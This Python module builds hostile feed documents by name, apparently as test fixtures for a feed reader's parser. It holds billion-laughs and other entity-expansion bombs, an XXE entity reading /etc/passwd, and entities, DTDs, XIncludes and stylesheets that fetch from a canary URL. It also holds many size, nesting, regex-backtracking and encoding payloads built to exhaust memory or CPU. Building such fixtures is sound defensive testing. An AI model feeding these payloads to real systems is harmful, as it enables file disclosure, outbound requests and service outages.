"""Documents that are an attack on whoever reads them as a feed: by name, a function that makes each.

`canary` is the address of a listener that no reader may contact.
"""

import json
from collections.abc import Callable
from itertools import pairwise

Document = Callable[[str], bytes]

PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>'
TITLE = b"<title>One title</title>"


def rss(*items: bytes, head: bytes = b"", doctype: bytes = b"", prolog: bytes = PROLOG) -> bytes:
    """An RSS feed around these items."""
    body = b"".join(items)
    channel = b"<channel><title>Hostile</title>" + head + body + b"</channel>"
    return prolog + doctype + b'<rss version="2.0">' + channel + b"</rss>"


def item(inside: bytes = b"", title: bytes = TITLE, number: int = 1) -> bytes:
    """An item with a link, and what else stands `inside`."""
    link = b"<link>https://hostile.example/%d</link><guid>%d</guid>" % (number, number)
    return b"<item>" + title + link + inside + b"</item>"


def described(html: bytes) -> bytes:
    """A feed whose only entry has this html, escaped, as its description."""
    escaped = html.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")
    return rss(item(b"<description>" + escaped + b"</description>"))


def _laughs(_: str) -> bytes:
    """Ten to the ninth "lol" (CVE-2003-1564)."""
    names = [b"lol%d" % depth for depth in range(10)]
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY %b "%b">' % (name, b"&%b;" % below * 10) for below, name in pairwise(names)
    )
    return rss(item(title=b"<title>&lol9;</title>"), doctype=b"<!DOCTYPE rss [" + entities + b"]>")


def _entities(declared: str, used: bytes = b"&x;") -> bytes:
    doctype = f"<!DOCTYPE rss [{declared}]>".encode()
    return rss(item(title=b"<title>" + used + b"</title>"), doctype=doctype)


def _json(items: str, **more: str) -> bytes:
    head = {"version": "https://jsonfeed.org/version/1.1", "title": "Hostile"} | more
    return (json.dumps(head)[:-1] + ', "items": ' + items + "}").encode()


ENTITIES: dict[str, Document] = {
    "billion laughs": _laughs,
    "quadratic entities": lambda _: _entities(f'<!ENTITY x "{"x" * 50_000}">', b"&x;" * 50_000),
    "an entity of itself": lambda _: _entities('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "an entity from a file": lambda _: _entities('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "an entity from a device": lambda _: _entities('<!ENTITY x SYSTEM "file:///dev/zero">'),
    "an entity from the network": lambda canary: _entities(f'<!ENTITY x SYSTEM "{canary}">'),
    "a DTD from the network": lambda canary: rss(
        item(), doctype=f'<!DOCTYPE rss SYSTEM "{canary}dtd">'.encode()
    ),
    "a parameter entity from the network": lambda canary: _entities(f'<!ENTITY % p SYSTEM "{canary}"> %p;'),
    "an XInclude": lambda canary: rss(
        item(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{canary}"/>'.encode())
    ),
    "a stylesheet from the network": lambda canary: rss(
        item(), prolog=PROLOG + f'<?xml-stylesheet type="text/xsl" href="{canary}x.xsl"?>'.encode()
    ),
    "200,000 entities": lambda _: _entities("".join(f'<!ENTITY x{n} "y">' for n in range(200_000))),
    "200,000 doctypes": lambda _: rss(item(), doctype=b"<!DOCTYPE a>" * 200_000),
    "a doctype without end": lambda _: rss(item(), doctype=b"<!DOCTYPE rss [" * 100_000),
}

SIZES: dict[str, Document] = {
    "100,000 items": lambda _: rss(*(item(number=number) for number in range(100_000))),
    "100,000 Atom entries": lambda _: (
        b'<feed xmlns="http://www.w3.org/2005/Atom">'
        + b"".join(b"<entry><id>%d</id><title>t</title></entry>" % number for number in range(100_000))
        + b"</feed>"
    ),
    "100,000 JSON items": lambda _: _json(
        "[" + ",".join(f'{{"id": "{number}", "title": "t"}}' for number in range(100_000)) + "]"
    ),
    "a title of 5 MB": lambda _: rss(item(title=b"<title>" + b"long " * 1_000_000 + b"</title>")),
    "a guid of 1 MB": lambda _: rss(item(b"<guid>" + b"g" * 1_000_000 + b"</guid>")),
    "a link of 1 MB": lambda _: rss(item(b"<link>https://hostile.example/" + b"l" * 1_000_000 + b"</link>")),
    "a link with 100,000 parameters": lambda _: rss(
        b"<item><title>t</title><link>https://hostile.example/?" + b"a=1&amp;" * 100_000 + b"</link></item>"
    ),
    "500 links of 10 KB": lambda _: rss(
        *(
            item(b"<link>https://hostile.example/%d/" % number + b"l" * 10_000 + b"</link>", number=number)
            for number in range(500)
        )
    ),
    "100,000 authors": lambda _: rss(item(b"<author>Ada</author>" * 100_000)),
    "100,000 categories": lambda _: rss(item(b"<category>owls</category>" * 100_000)),
    "100,000 enclosures": lambda _: rss(
        item(b'<enclosure url="https://hostile.example/a.mp3" type="audio/mpeg" length="1"/>' * 100_000)
    ),
    "20,000 attributes": lambda _: rss(item(b"<x " + _attributes(20_000) + b"/>")),
    "100,000 attributes": lambda _: rss(item(b"<x " + _attributes(100_000) + b"/>")),
    "100,000 namespaces": lambda _: rss(
        item(b"<x " + b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(100_000)) + b"/>")
    ),
    "a million <br>": lambda _: described(b"one" + b"<br>" * 1_000_000 + b"two"),
    "a 5 MB table": lambda _: described(b"<table>" + b"<tr><td>cell</td></tr>" * 220_000 + b"</table>"),
    "20,000 attributes in html": lambda _: described(b"<p " + _attributes(20_000) + b">text</p>"),
    "a million spaces": lambda _: (
        b" " * 1_000_000 + rss(item(title=b"<title>a" + b" " * 1_000_000 + b"b</title>"))
    ),
    "a million comments": lambda _: rss(item(), prolog=PROLOG + b"<!---->" * 1_000_000),
    "a million instructions": lambda _: rss(item(), prolog=PROLOG + b"<?a?>" * 1_000_000),
}


def _attributes(number: int) -> bytes:
    return b" ".join(b'a%d="%d"' % (at, at) for at in range(number))


PATTERNS: dict[str, Document] = {
    "comment flood": lambda _: described(b"<!--" * 200_000),
    "comment flood, declarations": lambda _: described(b"<!--<!" * 100_000),
    "comment flood, not escaped": lambda _: rss(
        item(b"<description>" + b"<!--" * 200_000 + b"</description>")
    ),
    "author pattern": lambda _: rss(item(b"<author>" + b"a." * 40_000 + b"</author>")),
    "author pattern, at signs": lambda _: rss(item(b"<author>" + b"a@" * 40_000 + b"</author>")),
    "author pattern, brackets": lambda _: rss(item(b"<author>" + b"(" * 80_000 + b"</author>")),
    "date pattern": lambda _: rss(item(b"<pubDate>" + b"1:" * 100_000 + b"</pubDate>")),
    "date of many digits": lambda _: rss(item(b"<pubDate>" + b"9" * 100_000 + b"</pubDate>")),
    "dates out of range": lambda _: rss(
        *(
            item(b"<pubDate>" + date + b"</pubDate>", number=number)
            for number, date in enumerate(
                (b"Mon, 99 Foo 99999 99:99:99 +9999", b"-0001-01-01", b"10000-01-01T00:00:00Z", b"2024-02-30")
            )
        )
    ),
    "less-than flood": lambda _: described(b"<" * 1_000_000),
    "ampersand flood": lambda _: rss(item(b"<description>" + b"&" * 1_000_000 + b"</description>")),
    "bracket flood": lambda _: rss(item(b"<description><![CDATA[" + b"]]" * 500_000 + b"]]></description>")),
    "CDATA without end": lambda _: rss(item(b"<description>" + b"<![CDATA[" * 200_000)),
    "quote flood": lambda _: described(b'<a href="' * 100_000),
    "start tags without end": lambda _: described(b"<a " * 200_000),
    "entity flood": lambda _: described(b"&#60;" * 500_000),
    "base64 of nothing": lambda _: (
        b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>t</title>'
        b'<content type="application/octet-stream">' + b"=" * 1_000_000 + b"</content></entry></feed>"
    ),
}

DEPTHS: dict[str, Document] = {
    "200,000 elements deep": lambda _: rss(item(b"<a>" * 200_000 + b"</a>" * 200_000)),
    "100,000 divs deep in xhtml": lambda _: (
        b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id>'
        b'<title>t</title><content type="xhtml">'
        + b"<div>" * 100_000
        + b"</div>" * 100_000
        + b"</content></entry></feed>"
    ),
    "100,000 divs deep in html": lambda _: described(b"<div>" * 100_000),
    "100,000 spans deep, closed": lambda _: described(b"<span>" * 100_000 + b"text" + b"</span>" * 100_000),
    "JSON a million deep": lambda _: b"[" * 1_000_000,
    "JSON objects 100,000 deep": lambda _: b'{"items":' * 100_000,
    "a JSON feed with a deep item": lambda _: _json("[" * 100_000 + "]" * 100_000),
    "channels inside channels": lambda _: PROLOG + b"<rss>" + b"<channel><item>" * 50_000,
}

CHARACTERS: dict[str, Document] = {
    "a lone surrogate": lambda _: rss(item(title=b"<title>Owls &#xD800; counted</title>")),
    "numbers of no character": lambda _: rss(item(title=b"<title>&#0;&#x1FFFFF;&#99999999999;Owls</title>")),
    "an encoding called undefined": lambda _: rss(
        item(), prolog=b'<?xml version="1.0" encoding="undefined"?>'
    ),
    "an encoding that unpacks": lambda _: rss(item(), prolog=b'<?xml version="1.0" encoding="zlib"?>'),
    "an encoding of 2 KB": lambda _: rss(
        item(), prolog=b'<?xml version="1.0" encoding="' + b"x" * 2000 + b'"?>'
    ),
    "many encodings, none of which fits": lambda _: (
        b'<?xml version="1.0" '
        + b"".join(b'encoding="%b" ' % name for name in (b"big5", b"gbk", b"sjis", b"euc-kr", b"euc-jp") * 40)
        + b"?>"
        + rss(item(b"<description>" + b"\x81\x40" * 2_000_000 + b"\xff\xff</description>"), prolog=b"")
    ),
    "bytes of no encoding": lambda _: rss(item(title=b"<title>" + b"\xff\xfe\x80" * 1_000_000 + b"</title>")),
    "UTF-16 without a mark": lambda _: rss(item()).decode().encode("utf-16-le"),
    "half a UTF-32": lambda _: rss(item()).decode().encode("utf-32")[:-3],
    "NULs": lambda _: rss(item(title=b"<title>Ow\0ls</title>")).replace(b">", b">\0"),
    "a million NULs": lambda _: bytes(1_000_000) + rss(item()),
    "a million byte order marks": lambda _: b"\xef\xbb\xbf" * 1_000_000 + rss(item()),
    "control characters": lambda _: rss(item(title=b"<title>\x1b[2J\x07\x9b31m\xe2\x80\xaeslwO</title>")),
    "combining marks": lambda _: rss(item(title=b"<title>" + b"\xcc\x81\xcc\xa7" * 500_000 + b"</title>")),
    "a number of a million digits": lambda _: _json('[{"id": ' + "9" * 1_000_000 + ', "title": "t"}]'),
    "JSON surrogates and NULs": lambda _: _json(
        r'[{"id": "1", "url": "https://hostile.example/1", "title": "\ud800\u0000"}]'
    ),
    "noise": lambda _: bytes(range(256)) * 10_000,
    "an element that is not closed": lambda _: rss(item())[:-40] + b"<a",
}

ALL = ENTITIES | SIZES | PATTERNS | DEPTHS | CHARACTERS
